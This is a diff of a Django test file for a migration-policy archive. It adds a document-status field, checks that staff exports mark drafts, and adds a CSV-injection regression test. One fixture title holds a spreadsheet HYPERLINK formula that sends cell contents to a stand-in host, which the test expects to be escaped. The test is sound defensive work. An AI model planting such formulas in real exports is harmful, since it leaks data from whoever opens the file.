@@ -1146,6 +1146,7 @@ def test_api_answers_the_documented_shape(client, corpus):
         "links",
         "provinces",
         "agencies",
+        "status",
     }
     assert (result["kind"], result["number"], result["date"], result["date_precision"]) == (
         "plan",
@@ -1825,7 +1826,7 @@ def test_csv_export_in_english_is_english_throughout(client, corpus):
     lines = b"".join(response.streaming_content).decode("utf-8").splitlines()
     header = (
         "Kind,Document type,Document number,Title,Date,Date (year-month-day),Provinces and cities,"
-        "Agencies and organisations,URL"
+        "Agencies and organisations,URL,Status"
     )
     assert lines[0] == "\ufeff" + header
     assert lines[1].startswith("Article,,,Người di cư trở về quê,01/05/2024,2024-05-01,")
@@ -1834,6 +1835,29 @@ def test_csv_export_in_english_is_english_throughout(client, corpus):
     assert response["Content-Disposition"] == (
         f'attachment; filename="migration-policy-archive-search-{day}.csv"'
     )
+
+
+def test_staffs_exports_say_which_documents_are_drafts(staff_client, corpus):
+    """The page marks a draft «Bản nháp»; a forwarded export passed it off as published."""
+    response = staff_client.get(reverse("archive:search-csv"), {"q": "di cư", "sort": "newest"})
+    lines = b"".join(response.streaming_content).decode("utf-8").splitlines()
+    assert lines[0].endswith(",Địa chỉ,Trạng thái")
+    assert lines[1].startswith("Bài viết,,,Bản nháp về di cư,") and lines[1].endswith(",Bản nháp")
+    assert lines[2].endswith(",Đã công bố")
+    _status, payload = api(staff_client, q="di cư", sort="newest")
+    assert [r["status"] for r in payload["results"][:2]] == ["draft", "published"]
+    assert entry_titles(feed(staff_client, q="bản nháp"))[0] == "[Bản nháp] Bản nháp về di cư"
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(client, corpus):
+    """A title imported from a web page, opened in Excel, ran as a formula (CSV injection)."""
+    ArticleFactory(title='=HYPERLINK("http://x.example/?"&A1,"Xem") di cư', slug="formula")
+    ArticleFactory(title="-Tin di cư", slug="minus")
+    response = client.get(reverse("archive:search-csv"), {"q": "di cư"})
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert ',"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"") di cư",' in body
+    assert ",'-Tin di cư," in body
+    assert ",Người di cư trở về quê," in body  # the rest as they are
 
 
 def test_csv_export_is_dated_and_names_a_bad_parameter_as_the_page_does(client, corpus):
